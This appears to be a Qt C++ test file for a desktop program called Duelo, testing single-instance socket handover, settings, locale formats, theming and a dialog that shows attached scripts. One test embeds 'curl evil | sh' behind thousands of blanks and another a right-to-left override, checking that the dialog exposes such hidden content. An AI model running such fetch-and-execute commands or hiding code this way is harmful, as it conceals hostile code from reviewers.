// SPDX-License-Identifier: GPL-3.0-or-later
// One instance, sleep, settings, and the number formats of the world.
#include <chrono>
#include <cstdio>
#include <future>

#include <QDialogButtonBox>
#include <QMessageBox>
#include <QPlainTextEdit>
#include <QProcess>
#include <QRegularExpression>
#include <QScrollBar>
#include <QSignalSpy>
#include <QTabWidget>
#include <QTableWidget>

#ifdef Q_OS_LINUX
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
#endif

#include "base/private_folder.h"
#include "ui/experiments/training/data_view.h"
#include "ui/look/desktop_scheme.h"
#include "ui/pages/diagnosis_page.h"
#include "ui/session/keep_awake.h"
#include "ui/shell/allow_dialog.h"
#include "ui/shell/dialogs.h"
#include "ui/shell/single_instance.h"
#include "ui/shell/window_arguments.h"
#include "window_bench.h"

using namespace duelo;
using namespace duelo::testing;

namespace {

/// These files in a folder in which nobody can write: not root either, where it may mount.
class ReadOnlyFolder {
public:
    ReadOnlyFolder(const QString& path, const QMap<QString, QByteArray>& files)
        : m_path(QFile::encodeName(path)) {
#ifdef Q_OS_LINUX
        m_mounted = ::geteuid() == 0 && ::mount("tmpfs", m_path, "tmpfs", 0, nullptr) == 0;
        for (auto file = files.begin(); file != files.end(); ++file) {
            QFile out(path + '/' + file.key());
            if (!out.open(QIODevice::WriteOnly)) return;
            out.write(file.value());
            if (!m_mounted) out.setPermissions(QFile::ReadOwner);
        }
        m_done = m_mounted ? ::mount(nullptr, m_path, nullptr, MS_REMOUNT | MS_RDONLY, nullptr) == 0
                           : ::geteuid() != 0 && ::chmod(m_path, 0555) == 0;
#endif
    }
    ~ReadOnlyFolder() {
#ifdef Q_OS_LINUX
        if (m_mounted) ::umount(m_path);
        ::chmod(m_path, 0755);
#endif
    }
    Q_DISABLE_COPY_MOVE(ReadOnlyFolder)
    [[nodiscard]] bool done() const {
        return m_done;
    }

private:
    QByteArray m_path;
    bool m_mounted = false, m_done = false;
};

}  // namespace

class TestSmallParts : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void helpAndWrongOptionsNeedNoWindow();
    void secondInstanceHandsOver();
    void deadInstanceIsReplaced();
    void busyInstanceKeepsItsName();
    void whoeverIsNotThisUserGetsNothing();
    void anotherUsersListenerGetsNothing();
    void settingsHaveThreeLayers();
    void aStickKeepsAll();
    void aStickThatCannotBeWrittenIsRead_R16();
    void defaultsAreRestoredAfterAsking();
    void damagedSettingsAreNoDrama();
    void numbersFollowTheSystem_data();
    void numbersFollowTheSystem();
    void awakeIsLetGo_R_08();
    void darkDesktopIsFollowed();
    void dataNameTheirClassesInTheReadersLanguage();
    void anAttachedSourceHidesNothing();
    void nothingHidesBehindBlanks_Y_05();

private:
    /// Hands files over as another process would: the first one's event loop goes on.
    static bool handOver(const QString& name, const QStringList& files) {
        auto result = std::async(std::launch::async,
                                 [&] { return ui::SingleInstance(name).handOver(files); });
        while (result.wait_for(std::chrono::milliseconds(5)) != std::future_status::ready)
            QCoreApplication::processEvents();
        return result.get();
    }
    static QString freshName() {
        return QString("duelo-test-%1-%2").arg(QCoreApplication::applicationPid()).arg(s_names++);
    }
    inline static int s_names = 0;
};

void TestSmallParts::dataNameTheirClassesInTheReadersLanguage() {
    for (const auto& [input, name] : {std::pair("textures", "ladrillo"), {"./muros", "brick"}}) {
        ui::DataView view(Text(Language::Spanish));
        view.setReply(Json{{"data",
                            {{"input", input},
                             {"classes", Json::array({"brick"})},
                             {"train", Json::array({60})}}}});
        const auto* counts = view.findChild<QTableWidget*>();
        QVERIFY(counts);
        QCOMPARE(counts->item(0, 0)->text(), QString(name));
    }
}

/// Text that turns the reading direction would show another program than the one that runs.
void TestSmallParts::anAttachedSourceHidesNothing() {
    const Attachment source("int x; /* \u202e */\r\n\tgo();\n");
    const Attachments attached{{"mine & yours.c", source}};
    const ui::AllowDialog dialog(attached);
    const QString text = dialog.findChild<QPlainTextEdit*>()->toPlainText();
    QCOMPARE(text, QString("int x; /* ⟨U+202E⟩ */\n\tgo();\n"));
    bool told = false;
    for (const QLabel* label : dialog.findChildren<QLabel*>())
        told |= label->text().contains(ui::qs(source.sha256()));
    QVERIFY(told);
    const auto* buttons = dialog.findChild<QDialogButtonBox*>();
    QVERIFY(buttons->button(QDialogButtonBox::Cancel)->isDefault());
}

/// Text behind 5,000 blanks or empty lines used to be out of sight. Now it wraps, and blanks that
/// are too many to be seen are told.
void TestSmallParts::nothingHidesBehindBlanks_Y_05() {
    const QString evil = QStringLiteral("curl evil | sh");
    const auto shown = [](const QString& text) {
        return ui::readableSource(text).replace(QRegularExpression("[0-9]+ \\w+( \\w+)?"), "#");
    };
    QCOMPARE(shown("echo 1;" + QString(5000, ' ') + evil), QString("echo 1;⟨#⟩" + evil));
    QCOMPARE(shown("echo 1" + QString(5000, '\n') + evil), QString("echo 1\n⟨#⟩\n" + evil));
    QCOMPARE(shown("echo 1;" + QString(5000, '\t') + evil), QString("echo 1;⟨#⟩" + evil));
    QCOMPARE(shown("echo 1;" + QString(" \t").repeated(99) + evil), QString("echo 1;⟨#⟩" + evil));
    // Blanks by another name, and lines of them.
    QCOMPARE(shown("a\n" + QString(QChar(0x00A0)) + "\n\f\nb"),
             QString("a\n⟨U+00A0⟩\n⟨U+000C⟩\nb"));
    QCOMPARE(ui::readableSource("safe\revil\r\r\n"), QString("safe⟨U+000D⟩evil⟨U+000D⟩\n"));
    // A letter with its accent is one; with many it is covered.
    QCOMPARE(ui::readableSource(QStringLiteral(u"n\u0303a\u0336\u0336")),
             QStringLiteral(u"n\u0303a\u0336⟨U+0336⟩"));
    QCOMPARE(shown("a" + QString(900, QChar(0x00A0)) + "b").count("⟨U+00A0⟩"), 900);
    QCOMPARE(shown("a\n" + QString(" \t\n").repeated(50) + "b"), QString("a\n⟨#⟩\nb"));
    for (const char32_t hidden : {0x200BU, 0x2028U, 0xADU, 0xFFFCU, 0x2066U, 0x0BU, 0x3164U,
                                  0x2800U, 0xE0041U, 0xFE0FU, 0x1BU})
        QVERIFY2(ui::readableSource("x" + QString::fromUcs4(&hidden, 1)).contains("⟨U+"),
                 qPrintable(QString::number(hidden, 16)));
    QCOMPARE(ui::readableSource("ñ 漢 →  if (a)\n\n\tb;\n"), QString("ñ 漢 →  if (a)\n\n\tb;\n"));
    const Attachments attached{
        {"run & hide.sh", Attachment(("echo " + QString(3000, 'x')).toStdString())},
        {"other.sh", Attachment("true")}};
    ui::AllowDialog dialog(attached);
    dialog.show();
    auto* tabs = dialog.findChild<QTabWidget*>();
    QCOMPARE(tabs->tabText(1), QString("run && hide.sh"));
    tabs->setCurrentIndex(1);
    const auto* view = tabs->currentWidget()->findChild<QPlainTextEdit*>();
    QTRY_COMPARE(view->horizontalScrollBar()->maximum(), 0);
    QVERIFY(view->toPlainText().contains(QString(3000, 'x')));
}

/// A wrong option is told, and no longer opened as a file.
void TestSmallParts::helpAndWrongOptionsNeedNoWindow() {
    const QTemporaryDir folder;
    const QString odd = folder.filePath("--odd.duelo");
    QVERIFY(QFile(odd).open(QIODevice::WriteOnly));
    QVERIFY(!ui::whyNoArguments({odd, "mine.duelo", "missing.duelo"}));
    const auto why = ui::whyNoArguments({"mine.duelo", "--nothing"});
    QVERIFY(why);
    QVERIFY(ui::asksForHelp({"--lang", "en", "--help"}) && ui::asksForHelp({"-h"}));
    QVERIFY(!ui::asksForHelp({"help.duelo"}));
    for (const Language language : {Language::Spanish, Language::English}) {
        const Text text(language);
        const std::string told = text.reason(*why);
        QVERIFY2(told.find("--nothing") != std::string::npos, told.c_str());
        const QString help = ui::windowHelp(text);
        // Y-18c: that it opens what a class has handed in stands there, too.
        for (const char* named : {"export", "--version", "--help", "duelo-engine", "ZIP"})
            QVERIFY2(help.contains(named), qPrintable(help));
    }
}

void TestSmallParts::secondInstanceHandsOver() {
    const QString name = freshName();
    ui::SingleInstance first(name);
    QVERIFY(!first.handOver({"a.duelo"}));  // nobody is there
    first.listen();
    QSignalSpy arrived(&first, &ui::SingleInstance::filesArrived);
    const QString odd = QDir::tempPath() + "/ñandú\nb c.duelo";
    QVERIFY(handOver(name, {odd, "relative.duelo"}));
    QTRY_COMPARE_WITH_TIMEOUT(arrived.size(), 1, kSoonMs);
    const QStringList files = arrived.first().first().toStringList();
    QCOMPARE(files, (QStringList{odd, QFileInfo("relative.duelo").absoluteFilePath()}));
    QVERIFY(handOver(name, {}));  // only "come to the front"
    QTRY_COMPARE_WITH_TIMEOUT(arrived.size(), 2, kSoonMs);
    QVERIFY(arrived.last().first().toStringList().isEmpty());
}

/// A first instance that crashed leaves its socket behind.
void TestSmallParts::deadInstanceIsReplaced() {
    const QString name = freshName();
    auto first = std::make_unique<ui::SingleInstance>(name);
    first->listen();
    first.reset();
    ui::SingleInstance next(name);
    QVERIFY(!next.handOver({"a.duelo"}));
    next.listen();
    QSignalSpy arrived(&next, &ui::SingleInstance::filesArrived);
    QVERIFY(handOver(name, {"b.duelo"}));
    QTRY_COMPARE_WITH_TIMEOUT(arrived.size(), 1, kSoonMs);
}

/// One that opens a large file answers late, and is the first one all the same.
void TestSmallParts::busyInstanceKeepsItsName() {
    const QString name = freshName();
    ui::SingleInstance first(name);
    first.listen();
    QSignalSpy arrived(&first, &ui::SingleInstance::filesArrived);
    ui::SingleInstance second(name);
    QVERIFY(!second.handOver({"a.duelo"}));  // nothing turns the first one's event loop
    second.listen();
    QSignalSpy stolen(&second, &ui::SingleInstance::filesArrived);
    QVERIFY(handOver(name, {"b.duelo"}));
    const auto hasCome = [&] {
        return !arrived.isEmpty() &&
               arrived.last().first().toStringList().value(0).endsWith("b.duelo");
    };
    QTRY_VERIFY_WITH_TIMEOUT(hasCome(), kSoonMs);
    QCOMPARE(stolen.size(), 0);
}

/// Y-04: each side looks whose process the other one is, before it says or takes anything.
void TestSmallParts::whoeverIsNotThisUserGetsNothing() {
    const auto stranger = [](qintptr) { return false; };
    const QString name = freshName();
    ui::SingleInstance first(name);
    first.listen();
    QSignalSpy arrived(&first, &ui::SingleInstance::filesArrived);
    QVERIFY(!ui::SingleInstance(name, stranger).handOver({"a.duelo"}));
    QTest::qWait(50);
    QCOMPARE(arrived.size(), 0);

    const QString guarded = freshName();
    ui::SingleInstance careful(guarded, stranger);
    careful.listen();
    QSignalSpy taken(&careful, &ui::SingleInstance::filesArrived);
    QVERIFY(!handOver(guarded, {"b.duelo"}));
    QCOMPARE(taken.size(), 0);

    ui::SingleInstance nowhere{QString()};
    nowhere.listen();
    QVERIFY(!nowhere.handOver({"c.duelo"}));
}

/// Y-04: as it was found: another user listens at the name that can be guessed, and says "ok".
void TestSmallParts::anotherUsersListenerGetsNothing() {
#ifdef Q_OS_LINUX
    const QString place = ui::SingleInstance::defaultName();
    QVERIFY(isPrivateFolder(ui::pathOf(QFileInfo(place).path())));
    if (::geteuid() != 0) QSKIP("only an administrator can be two users");
    QTemporaryDir folder;
    QVERIFY(::chmod(folder.path().toUtf8(), 0777) == 0);
    const QString name = folder.filePath("duelo-guessed");
    const pid_t listener = ::fork();
    if (listener == 0) {
        constexpr uid_t nobody = 65534;
        sockaddr_un address{};
        address.sun_family = AF_UNIX;
        const QByteArray made = name.toUtf8() + ".new";  // takes its name when it listens
        qstrncpy(address.sun_path, made, sizeof address.sun_path);
        const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
        if (::setuid(nobody) != 0 ||
            ::bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 ||
            ::listen(fd, 1) != 0 || ::rename(made, name.toUtf8()) != 0)
            ::_exit(2);
        const int taken = ::accept(fd, nullptr, nullptr);
        static_cast<void>(::write(taken, "ok", 2));
        char byte = 0;
        ::_exit(::read(taken, &byte, 1) > 0 ? 1 : 0);  // 1: it was told a path
    }
    QTRY_VERIFY_WITH_TIMEOUT(QFileInfo::exists(name), kSoonMs);
    QVERIFY(!ui::SingleInstance(name).handOver({"private.duelo"}));
    int status = -1;
    QCOMPARE(::waitpid(listener, &status, 0), listener);
    QCOMPARE(WEXITSTATUS(status), 0);
#endif
}

/// The user's choice, else the teacher's, else the program's.
void TestSmallParts::settingsHaveThreeLayers() {
    QTemporaryDir folder;
    const QString own = folder.filePath("duelo.ini"), teacher = folder.filePath("defaults.ini");
    QFile defaults(teacher);
    QVERIFY(defaults.open(QIODevice::WriteOnly));
    defaults.write("language=en\nzoom_percent=150\n[report]\nsubject=Arquitectura\n");
    defaults.close();
    ui::Settings settings(own, teacher);
    QCOMPARE(settings.language(), std::optional(Language::English));
    QCOMPARE(settings.zoomPercent(), 150);
    QCOMPARE(settings.field("subject"), QString("Arquitectura"));
    settings.setLanguage(Language::Spanish);
    QCOMPARE(settings.language(), std::optional(Language::Spanish));
    settings.setLanguage(std::nullopt);
    QCOMPARE(settings.language(), std::optional<Language>());  // "system" beats the teacher's
    settings.setField("student", "Ana");
    settings.setRecentFiles({"/a.duelo"}, {"/b.duelo"});
    settings.restoreDefaults();
    QCOMPARE(settings.language(), std::optional(Language::English));
    QCOMPARE(settings.field("student"), QString("Ana"));
    QCOMPARE(settings.recentFiles() + settings.pinnedFiles(),
             QStringList({"/a.duelo", "/b.duelo"}));
    QCOMPARE(ui::Settings(folder.filePath("x.ini"), {}).zoomPercent(), 100);
}

void TestSmallParts::aStickKeepsAll() {
    QTemporaryDir stick;
    QVERIFY(QFile(stick.filePath("duelo.ini")).open(QIODevice::WriteOnly));
    ui::Settings settings(stick.path());
    QCOMPARE(settings.file(), stick.filePath("duelo.ini"));
    QCOMPARE(settings.resultsFolder(), stick.filePath("results"));
    QVERIFY(!settings.problem());
}

/// Settings and results go to the user's folders then, and it is said, also in the diagnosis.
void TestSmallParts::aStickThatCannotBeWrittenIsRead_R16() {
    QTemporaryDir stick, home;
    const ReadOnlyFolder locked(stick.path(), {{"duelo.ini", "zoom_percent=150\n"}});
    if (!locked.done()) QSKIP("root may write everywhere, and may not mount here");
    QSettings::setPath(QSettings::IniFormat, QSettings::UserScope, home.path());
    ui::Settings settings(stick.path());
    QCOMPARE(settings.file(), home.filePath("duelo/duelo.ini"));
    QVERIFY(!settings.resultsFolder().startsWith(stick.path()));
    QCOMPARE(settings.zoomPercent(), 150);  // what was chosen on the stick holds
    settings.setZoomPercent(125);
    QCOMPARE(settings.zoomPercent(), 125);
    const auto problem = settings.problem();
    QVERIFY(problem);
    QCOMPARE(problem->code, std::string("stick_read_only"));
    QCOMPARE(problem->args.value("folder", ""), stick.path().toStdString());
    QCOMPARE(problem->args.value("results", ""), settings.resultsFolder().toStdString());

    const Text text(Language::Spanish);
    ui::DiagnosisPage page(text);
    page.setWindow("Duelo 1", settings);
    const QString report = page.reportText();
    QVERIFY(report.contains("! Duelo se ejecuta desde " + stick.path()));
    QVERIFY(report.contains("La ventana: Duelo 1"));
    settings.setResultsFolder(stick.filePath("results"));
    QVERIFY(page.reportText().contains(stick.filePath("results") + "; NO SE PUEDE ESCRIBIR"));
}

void TestSmallParts::defaultsAreRestoredAfterAsking() {
    QTemporaryDir folder;
    ui::Settings settings(folder.filePath("duelo.ini"), {});
    settings.setZoomPercent(150);
    for (const bool agreed : {false, true}) {
        ui::SettingsDialog dialog(settings);
        auto* button =
            dialog.findChild<QDialogButtonBox*>()->button(QDialogButtonBox::RestoreDefaults);
        inNextDialog([agreed](QDialog& question) {
            auto& box = dynamic_cast<QMessageBox&>(question);
            box.button(agreed ? QMessageBox::RestoreDefaults : QMessageBox::Cancel)->click();
        });
        button->click();
        QCOMPARE(settings.zoomPercent(), agreed ? 100 : 150);
        QCOMPARE(dialog.result() == QDialog::Accepted, agreed);
    }
}

void TestSmallParts::damagedSettingsAreNoDrama() {
    QTemporaryDir folder;
    QFile file(folder.filePath("duelo.ini"));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(
        "language=klingon\ntheme=plaid\nzoom_percent=-40000\ndecimal=;;\n"
        "plan=\"{\\\"cases\\\": 7\"\nrecent=@Invalid()\n\xff\xfe\x00[[[\n");
    file.close();
    ui::Settings settings(file.fileName(), {});
    QCOMPARE(settings.language(), std::optional<Language>());
    QCOMPARE(settings.zoomPercent(), 100);
    QCOMPARE(settings.decimal(), std::optional<char>());
    ui::Session work(settings, DUELO_FAKE_ENGINE, {"serve", "normal"});
    ui::MainWindow window(settings, work);
    window.show();
    QVERIFY(window.isVisible());
}

void TestSmallParts::numbersFollowTheSystem_data() {
    QTest::addColumn<QString>("locale");
    QTest::addColumn<char>("sign");
    QTest::newRow("Spain") << "es_ES" << ',';
    QTest::newRow("Mexico") << "es_MX" << '.';
    QTest::newRow("Egypt") << "ar_EG" << '.';  // its own sign and digits would be unreadable here
    QTest::newRow("England") << "en_GB" << '.';
    QTest::newRow("Germany") << "de_DE" << ',';
}

/// Started anew, because a process knows its system's locale from its start on.
void TestSmallParts::numbersFollowTheSystem() {
    QFETCH(QString, locale);
    QFETCH(char, sign);
    QProcess self;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert("LC_ALL", locale + ".UTF-8");
    environment.insert("LANG", locale + ".UTF-8");
    environment.insert("DUELO_TELL_SIGN", "1");
    self.setProcessEnvironment(environment);
    self.start(QCoreApplication::applicationFilePath(), {});
    QVERIFY(self.waitForFinished(kSoonMs));
    QCOMPARE(self.readAllStandardOutput(), QByteArray(1, sign) + "1" + sign + "50");
}

/// Held while it measures and not a moment longer, on whatever this desktop offers.
void TestSmallParts::awakeIsLetGo_R_08() {
    {
        const ui::KeepAwake awake;
        const ui::KeepAwake again;
        QCOMPARE(again.isHeld(), awake.isHeld());
    }
    WindowBench bench("slow=300");
    QVERIFY(bench.ready());
    QVERIFY(!bench.work->isKeepingAwake());
    bench.measure();
    QVERIFY(bench.work->isKeepingAwake());
    QVERIFY(bench.idle());
    QVERIFY(!bench.work->isKeepingAwake());
}

/// Also while the window is open; who has chosen a theme keeps it.
void TestSmallParts::darkDesktopIsFollowed() {
    QTemporaryDir folder;
    ui::Settings settings(folder.filePath("duelo.ini"), {});
    ui::DesktopScheme scheme;
    QSignalSpy changed(&scheme, &ui::DesktopScheme::changed);
    const auto show = [&](ui::ThemeChoice choice) {
        ui::setDesktopDark(scheme.isDark());
        ui::applyTheme(*qApp, choice);
        return ui::tokens().dark;
    };
    for (const bool dark : {true, false, true}) {
        scheme.take(dark);
        QCOMPARE(show(ui::ThemeChoice::System), dark);
        QCOMPARE(show(ui::ThemeChoice::Light), false);
        QCOMPARE(show(ui::ThemeChoice::Dark), true);
    }
    const auto told = changed.size();
    scheme.take(true);  // nothing new
    QCOMPARE(changed.size(), told);
    QVERIFY(told >= 2);
    // A desktop without a preference is as its palette was, which here is light.
    scheme.take(std::nullopt);
    QCOMPARE(show(ui::ThemeChoice::System), false);
}

int main(int argc, char** argv) {
    QApplication application(argc, argv);
    if (qEnvironmentVariableIsSet("DUELO_TELL_SIGN")) {
        const ui::Settings settings(QDir::tempPath() + "/none.ini", {});
        const Text text = ui::textOf(settings);
        std::printf("%c%s", text.numbers().decimal, formatFixed(1.5, 2, text.numbers()).c_str());
        return 0;
    }
    TestSmallParts test;
    return QTest::qExec(&test, argc, argv);
}
#include "tst_small_parts.moc"
